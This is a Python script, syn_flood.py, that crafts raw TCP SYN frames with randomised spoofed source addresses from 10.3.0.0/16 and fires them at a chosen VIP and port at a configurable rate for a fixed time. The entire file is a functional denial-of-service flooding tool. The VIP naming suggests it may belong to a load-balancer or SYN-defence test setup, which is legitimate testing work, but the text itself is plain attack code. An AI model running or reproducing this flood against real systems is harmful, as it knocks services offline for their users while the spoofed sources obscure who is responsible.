"""Sends SYNs of strangers at a rate, out of an interface: syn_flood.py INTERFACE FROM_MAC TO_MAC
VIP PORT A_SECOND SECONDS. Says "sending" when it begins, and how many it has sent when it ends.

Each is of a client of its own in FLOODER_NET, which nobody answers for.
"""

import contextlib
import random
import socket
import struct
import sys
import time

FLOODER_NET = "10.3.0.0/16"
KINDS = 32768  # frames that are made beforehand, and sent in turn
AT_ONCE = 64


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xffff) + (total >> 16)
    return ~((total & 0xffff) + (total >> 16)) & 0xffff


def frame(link, target, port, choose):
    source = bytes((10, 3, choose.randrange(256), choose.randrange(1, 255)))
    ports = struct.pack("!HH", choose.randrange(1024, 65536), port)
    rest = struct.pack("!IIBBH", choose.getrandbits(32), 0, 5 << 4, 2, 65535)
    pseudo = source + target + struct.pack("!HH", socket.IPPROTO_TCP, 20)
    tcp = ports + rest + struct.pack("!HH", checksum(pseudo + ports + rest + bytes(4)), 0)
    start = struct.pack("!BBHHHBB", 0x45, 0, 40, choose.getrandbits(16), 0x4000, 64, 6)
    ip = start + struct.pack("!H", checksum(start + bytes(2) + source + target)) + source + target
    return link + ip + tcp


def flood(interface, from_mac, to_mac, vip, port, a_second, seconds):
    link = bytes.fromhex((to_mac + from_mac).replace(":", "")) + b"\x08\x00"
    choose = random.Random()
    frames = [frame(link, socket.inet_aton(vip), port, choose) for _ in range(KINDS)]
    sent = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0)) as out:
        out.bind((interface, 0))
        print("sending", flush=True)
        start = time.monotonic()
        while (now := time.monotonic() - start) < seconds:
            if sent > now * a_second:
                time.sleep(0.001)
                continue
            for _ in range(AT_ONCE):
                with contextlib.suppress(OSError):  # its queue is full: that one is lost
                    out.send(frames[sent % KINDS])
                sent += 1
    print(sent, flush=True)


if __name__ == "__main__":
    flood(*sys.argv[1:5], int(sys.argv[5]), int(sys.argv[6]), float(sys.argv[7]))
